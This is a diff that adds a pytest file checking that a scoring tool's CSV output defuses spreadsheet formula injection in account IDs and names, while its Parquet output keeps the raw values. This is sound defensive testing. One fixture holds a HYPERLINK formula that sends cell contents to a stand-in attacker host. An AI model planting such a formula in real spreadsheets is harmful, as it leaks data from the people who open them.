@@ -1,0 +1,64 @@
+"""The results folder: Parquet as computed, the CSV safe to open in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pyarrow.parquet as pq
+
+from tests.engine.conftest import AS_OF, direct_score_model, table_of
+from tierwise.engine import score_accounts, write_results
+
+HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
+
+
+def _run(tmp_path: Path) -> Path:
+    model = direct_score_model(
+        {"score": 1}, [{"key": "tier_1", "name": "One", "min_score": 0}]
+    )
+    rows = [
+        {"account_id": "a", "name": HOSTILE, "score_input": 10},
+        {"account_id": "+b", "name": "  @Acme Ops", "score_input": 20},
+        {"account_id": "-1250", "name": "Negative Revenue Test", "score_input": 30},
+        {"account_id": "d", "name": "Plain\x01 Name", "score_input": 40},
+    ]
+    run = score_accounts(model, table_of(rows), AS_OF)
+    return write_results(run, tmp_path / "out")
+
+
+def test_case_18_the_results_csv_defuses_formulas_in_ids_and_names(
+    tmp_path: Path,
+) -> None:
+    out = _run(tmp_path)
+
+    with (out / "tiers.csv").open(encoding="utf-8", newline="") as handle:
+        shown = {row["account_id"]: row["name"] for row in csv.DictReader(handle)}
+
+    assert shown == {
+        "a": "'" + HOSTILE,
+        "'+b": "'  @Acme Ops",
+        "-1250": "Negative Revenue Test",
+        "d": "Plain Name",
+    }
+
+
+def test_the_parquet_results_keep_values_as_they_came(tmp_path: Path) -> None:
+    out = _run(tmp_path)
+
+    names = set(pq.read_table(out / "tiers.parquet").column("name").to_pylist())
+
+    assert HOSTILE in names and "  @Acme Ops" in names
+
+
+def test_no_csv_is_written_when_asked_not_to(tmp_path: Path) -> None:
+    model = direct_score_model(
+        {"score": 1}, [{"key": "tier_1", "name": "One", "min_score": 0}]
+    )
+    run = score_accounts(
+        model, table_of([{"account_id": "a", "name": "A", "score_input": 1}]), AS_OF
+    )
+
+    out = write_results(run, tmp_path / "out", csv=False)
+
+    assert sorted(path.name for path in out.iterdir()) == ["tiers.parquet"]
